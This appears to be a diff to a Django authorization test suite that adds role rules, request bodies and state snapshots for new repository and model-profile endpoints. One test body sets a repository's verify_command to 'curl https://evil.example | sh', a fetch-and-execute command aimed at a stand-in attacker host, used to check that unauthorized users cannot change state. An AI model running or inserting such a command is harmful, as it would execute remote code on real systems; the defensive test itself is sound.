@@ -58,6 +58,19 @@ ROLES = {
     ("agents:taste_edit", "post"): {OP, A},
     ("agents:taste_delete", "post"): {OP, A},
     ("agents:preview", "post"): EVERYONE,
+    ("agents:repo_list", "get"): EVERYONE,
+    ("agents:repo_new", "get"): {A},
+    ("agents:repo_new", "post"): {A},
+    ("agents:repo_edit", "get"): {A},
+    ("agents:repo_edit", "post"): {A},
+    ("agents:repo_delete", "post"): {A},
+    ("agents:model_list", "get"): EVERYONE,
+    ("agents:model_new", "get"): {A},
+    ("agents:model_new", "post"): {A},
+    ("agents:model_test", "post"): {A},
+    ("agents:model_edit", "get"): {A},
+    ("agents:model_edit", "post"): {A},
+    ("agents:model_delete", "post"): {A},
     ("agents:team", "get"): EVERYONE,
     ("agents:team_switch", "post"): EVERYONE,
     ("agents:invite_create", "post"): {A},
@@ -100,6 +113,10 @@ OBJECT_URLS = {
     "agents:invite_revoke": "invite",
     "agents:member_role": "membership",
     "agents:member_remove": "membership",
+    "agents:repo_edit": "repo",
+    "agents:repo_delete": "repo",
+    "agents:model_edit": "profile",
+    "agents:model_delete": "profile",
 }
 # The values a <str:...> part takes in the app: each one is tried.
 WORDS = {
@@ -115,6 +132,11 @@ BODIES = {
     "judges:decide": {"comment": "lgtm"},
     "agents:member_role": {"role": "admin"},
     "agents:invite_create": {"role": "admin"},
+    "agents:repo_new": {"name": "pwned", "path": "/nonexistent"},
+    "agents:repo_edit": {"name": "pwned", "verify_command": "curl https://evil.example | sh"},
+    "agents:model_new": {"name": "pwned", "model": "sim/diligent"},
+    "agents:model_edit": {"model": "sim/lazy"},
+    "agents:model_test": {"name": "probe", "model": "sim/diligent"},
 }
 POST_ONLY = {
     "agents:task_delete",
@@ -132,6 +154,9 @@ POST_ONLY = {
     "agents:member_role",
     "agents:member_remove",
     "judges:patch",
+    "agents:repo_delete",
+    "agents:model_delete",
+    "agents:model_test",
 }
 
 GET_ONLY = {
@@ -143,6 +168,8 @@ GET_ONLY = {
     "agents:agent_detail",
     "agents:taste_list",
     "agents:team",
+    "agents:repo_list",
+    "agents:model_list",
 }
 
 
@@ -202,6 +229,9 @@ def alices_things(demo, alice, bob, victor, adele):
     )
     invite, _ = teams.create_invite(adele, team.pk, Membership.Role.VIEWER)
     spare = factories.make_user("sam", team, Membership.Role.VIEWER)
+    # a repository and a model profile nothing uses yet: the admin may edit and delete them
+    spare_repo = Repository.objects.create(team=team, name="spare", path=task.repo.path)
+    spare_profile = ModelProfile.objects.create(team=team, name="spare-model", model="sim/diligent")
     return {
         "task": task.pk,
         "fresh_task": fresh.pk,
@@ -210,6 +240,8 @@ def alices_things(demo, alice, bob, victor, adele):
         "verdict": verdict.pk,
         "invite": invite.pk,
         "membership": Membership.objects.get(user=spare).pk,
+        "repo": spare_repo.pk,
+        "profile": spare_profile.pk,
     }
 
 
@@ -225,8 +257,10 @@ def snapshot() -> dict:
         "reviews": Review.objects.count(),
         "members": list(Membership.objects.order_by("pk").values_list("pk", "team_id", "user_id", "role")),
         "invites": list(Invite.objects.order_by("pk").values_list("pk", "role", "expires_at", "used_at")),
-        "repos": Repository.objects.count(),
-        "profiles": ModelProfile.objects.count(),
+        "repos": list(Repository.objects.order_by("pk").values_list("pk", "name", "path", "verify_command")),
+        "profiles": list(
+            ModelProfile.objects.order_by("pk").values_list("pk", "name", "model", "api_base", "api_key_env")
+        ),
         "main": {repo.pk: worktrees.git(repo.path, "rev-parse", "main").strip() for repo in Repository.objects.all()},
     }
 
